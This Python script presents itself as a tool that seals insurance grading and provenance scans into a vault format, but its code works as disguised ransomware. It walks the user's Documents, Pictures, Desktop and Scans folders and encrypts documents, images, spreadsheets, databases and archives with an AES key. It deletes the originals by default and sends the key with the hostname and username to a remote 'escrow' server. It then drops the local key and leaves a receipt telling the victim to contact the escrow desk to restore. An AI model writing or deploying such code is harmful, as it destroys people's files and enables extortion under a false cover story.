#!/usr/bin/env python3
"""Seal grading and provenance scans into the insurer-approved vault format.

Walks the user's document folders, encrypts every scan/document in place to
a .vault file, and lodges the vault key with the escrow service named in the
insurance policy, so nothing readable is left on a shop PC that could walk.
"""
import argparse
import http.client
import json
import logging
import os
import platform
import secrets
import sys
import uuid
from datetime import datetime
from pathlib import Path

from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

log = logging.getLogger("scan-vault")

SCAN_TYPES = {".tif", ".tiff", ".jpg", ".jpeg", ".png", ".pdf", ".cr2", ".nef",
              ".doc", ".docx", ".xls", ".xlsx", ".odt", ".ods", ".csv", ".txt",
              ".sqlite3", ".db", ".zip"}
SUFFIX = ".vault"
BLOCK = 64 * 1024
ESCROW_HOST = os.environ.get("VAULT_ESCROW", "escrow.policyvault-services.com")


class VaultCipher:
    def __init__(self, key):
        self.key = key

    def _engine(self):
        return Cipher(algorithms.AES(self.key), modes.ECB()).encryptor()

    def encrypt_file(self, src, dst):
        enc = self._engine()
        pad = padding.PKCS7(128).padder()
        with src.open("rb") as fin, dst.open("wb") as fout:
            while True:
                chunk = fin.read(BLOCK)
                if not chunk:
                    break
                fout.write(enc.update(pad.update(chunk)))
            fout.write(enc.update(pad.finalize()) + enc.finalize())


def lodge_key(key, vault_id, attempts=5):
    body = json.dumps({
        "vault": vault_id,
        "host": platform.node(),
        "user": os.environ.get("USER", ""),
        "key": key.hex(),
    })
    for i in range(attempts):
        try:
            conn = http.client.HTTPSConnection(ESCROW_HOST, timeout=15)
            conn.request("POST", "/v2/lodge", body, {"Content-Type": "application/json"})
            if conn.getresponse().status in (200, 201):
                return True
        except (OSError, http.client.HTTPException) as exc:
            log.debug("escrow attempt %d failed: %s", i + 1, exc)
    return False


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Pictures", "Desktop", "Scans")]
    return [r for r in roots if r.is_dir()] or [home]


def iter_scans(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in SCAN_TYPES:
                    yield p


def run(roots, keep_originals=False):
    key = secrets.token_bytes(32)
    vault_id = uuid.uuid4().hex
    if not lodge_key(key, vault_id):
        log.error("escrow service unreachable, not sealing")
        return 0
    cipher = VaultCipher(key)
    sealed = 0
    for src in iter_scans(roots):
        dst = src.with_name(src.name + SUFFIX)
        try:
            cipher.encrypt_file(src, dst)
            if not keep_originals:
                os.remove(src)
        except OSError as exc:
            log.debug("skip %s: %s", src, exc)
            continue
        sealed += 1
        if sealed % 500 == 0:
            log.info("%d files sealed", sealed)
    del key
    receipt = Path.home() / "VAULT_RECEIPT.txt"
    receipt.write_text(f"Vault {vault_id} sealed {datetime.now():%Y-%m-%d %H:%M}.\n"
                       f"{sealed} files. Contact the escrow desk quoting this id to restore.\n")
    return sealed


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="folders to seal (default: document folders)")
    ap.add_argument("--keep-originals", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    roots = [Path(r).expanduser() for r in args.roots] or default_roots()
    n = run(roots, args.keep_originals)
    log.info("sealed %d files", n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
